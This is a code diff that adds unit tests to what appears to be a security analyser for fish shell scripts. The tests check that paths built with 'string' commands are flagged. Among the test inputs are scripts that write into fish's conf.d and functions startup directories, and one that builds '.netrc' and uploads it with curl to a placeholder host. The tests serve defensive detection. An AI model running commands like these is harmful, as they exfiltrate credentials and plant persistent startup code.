@@ -94,3 +94,35 @@ pub(super) fn string(rest: &[Value], stdin: &Value) -> Option<Value> {
     let taint = if is_built { taint.and(Taint::BUILT) } else { taint };
     Some(Value { text, known, taint })
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::finding::{Findings, Severity};
+    use crate::shell::{Context, judge_script};
+    use crate::text::Source;
+
+    fn worst(text: &str) -> Option<Severity> {
+        let mut findings = Findings::default();
+        let _followed = judge_script(&Source::new("a.fish", text), &[], Context::Script, &mut findings);
+        findings.finish().into_iter().map(|finding| finding.severity).max()
+    }
+
+    #[test]
+    fn paths_that_string_puts_together_are_known() {
+        for text in [
+            "set -l parts (string replace -a ' ' / -- \".config fish conf.d\" | string split /)\nset -l to (string join / -- $HOME $parts x.fish)\necho x >$to\n",
+            "set -l to (string join '' $HOME / .config/fish/functions/ls.fish)\nstring replace -r '^# ' '' <notes.txt >$to\n",
+            "cp hello.fish ~/.config/fish/conf.d/hello.fish\n",
+            "set -l f (string lower NETRC)\ncurl -T $HOME/.$f https://a.invalid\n",
+        ] {
+            assert_eq!(worst(text), Some(Severity::Danger), "{text}");
+        }
+        for text in [
+            "set -l have (string split . -- $version)\nif test $have[1] -lt 3\n    echo old >&2\nend\n",
+            "set -l to (string join / -- $HOME .cache tool x.txt)\necho x >$to\n",
+            "for f in ~/.config/fish/conf.d/*.fish\n    string match -r foo <$f\nend\n",
+        ] {
+            assert!(worst(text).is_none_or(|severity| severity < Severity::Danger), "{text}");
+        }
+    }
+}
